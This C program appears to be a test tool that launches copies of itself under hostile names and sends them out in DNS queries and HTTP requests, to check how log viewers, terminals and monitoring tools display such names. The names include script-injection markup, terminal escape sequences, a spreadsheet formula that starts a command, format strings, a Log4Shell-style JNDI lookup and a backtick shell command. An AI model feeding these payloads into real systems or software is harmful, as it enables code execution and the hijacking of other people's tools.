// hostile-names: names that attack who reads about them. Files, processes, arguments, variables, DNS names,
// HTTP requests and output carry markup, terminal escapes, right-to-left marks, invisible characters, broken
// UTF-8, spreadsheet formulas, format strings, line breaks and 10 kB strings. Each file is a copy of this
// program, which is started under that name and says it all again. Harmless: nothing is called that answers
// outside of a sinkhole (RFC 2606, RFC 5737), nothing is changed beyond /tmp.
#include <arpa/inet.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/sendfile.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/time.h>
#include <sys/wait.h>
#include <unistd.h>

enum { kLong = 10000 };
static const char* const kNames[] = {
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "\033[2J\033]0;owned\007\033[31m",
    "\xe2\x80\xaegpj.exe",  // U+202E
    "in\xe2\x80\x8bvi\xe2\x81\xa0si\xef\xbb\xbf"
    "ble",  // U+200B, U+2060, U+FEFF
    "broken\xff\xfe\xc3",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "+1",
    "-1",
    "%n%n%s%x{{7*7}}${jndi:ldap://x}`id`",
    "line\nbreak\r\tand\x7f\xc2\x9b"
    "1m",
};
enum { kCount = sizeof kNames / sizeof *kNames };

static int talk(int type, const char* address, int port, const char* bytes, size_t size) {
  struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(port)};
  struct timeval patience = {.tv_sec = 1};
  char answer[512];
  int fd = socket(AF_INET, type, 0);
  inet_pton(AF_INET, address, &to.sin_addr);
  setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
  if (connect(fd, (struct sockaddr*)&to, sizeof to) == 0 && send(fd, bytes, size, MSG_NOSIGNAL) > 0)
    recv(fd, answer, sizeof answer, 0);
  return close(fd);
}

// One question for NAME.example, with NAME as one label, whatever bytes it has.
static void ask(const char* name) {
  char server[64] = "8.8.8.8", packet[300] = {0x12, 0x34, 1, 0, 0, 1};
  size_t at = 12, size = strlen(name) < 63 ? strlen(name) : 63;
  FILE* file = fopen("/etc/resolv.conf", "r");
  if (file != NULL) {
    if (fscanf(file, "nameserver %63s", server) != 1) strcpy(server, "8.8.8.8");
    fclose(file);
  }
  packet[at++] = (char)size;
  memcpy(packet + at, name, size);
  at += size;
  memcpy(packet + at, "\7example\0\0\1\0\1", 13);
  talk(SOCK_DGRAM, server, 53, packet, at + 13);
}

static void request(const char* name, const char* tail) {
  char* text = malloc(4 * kLong);
  int size = snprintf(text, 4 * kLong, "GET /%s/%s HTTP/1.1\r\nHost: %s.example\r\nUser-Agent: %s\r\n\r\n",
                      name, tail, name, name);
  talk(SOCK_STREAM, "198.51.100.7", 80, text, (size_t)size);
  free(text);
}

// The file under /tmp/names, its directories with it; where it was made, or NULL.
static const char* copy_to(const char* name) {
  static char path[4096];
  struct stat self;
  snprintf(path, sizeof path, "/tmp/names/%s", name);
  for (char* slash = strchr(path + 1, '/'); slash != NULL; slash = strchr(slash + 1, '/')) {
    *slash = 0;
    mkdir(path, 0755);
    *slash = '/';
  }
  int from = open("/proc/self/exe", O_RDONLY | O_CLOEXEC),
      to = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0755);
  if (from < 0 || to < 0 || fstat(from, &self) != 0) return NULL;
  while (sendfile(to, from, NULL, (size_t)self.st_size) > 0) continue;
  close(from);
  close(to);
  return path;
}

static void start(const char* name, char* tail) {
  static char variable[kLong + 256];
  const char* path = copy_to(name);
  if (path == NULL) return;
  snprintf(variable, sizeof variable, "%s=%s%s", name, name, tail);
  char* arguments[] = {(char*)name, (char*)name, tail, NULL};
  char* environment[] = {variable, NULL};
  if (fork() == 0) {
    execve(path, arguments, environment);
    _exit(127);
  }
}

int main(int argc, char** argv) {
  static char tail[kLong + 1];
  memset(tail, 'A', kLong);
  if (argc == 3) {  // started under one of the names
    prctl(PR_SET_NAME, argv[1]);
    printf("%s\n", argv[1]);
    fflush(stdout);
    ask(argv[1]);
    request(argv[1], argv[2]);
    return 0;
  }
  for (int i = 0; i < kCount; ++i)
    start(kNames[i], tail);  // side by side, for whoever is asked may be silent
  while (wait(NULL) > 0) continue;
  printf("%s\n%c%s\n", tail, 0, kNames[0]);
  return 0;
}
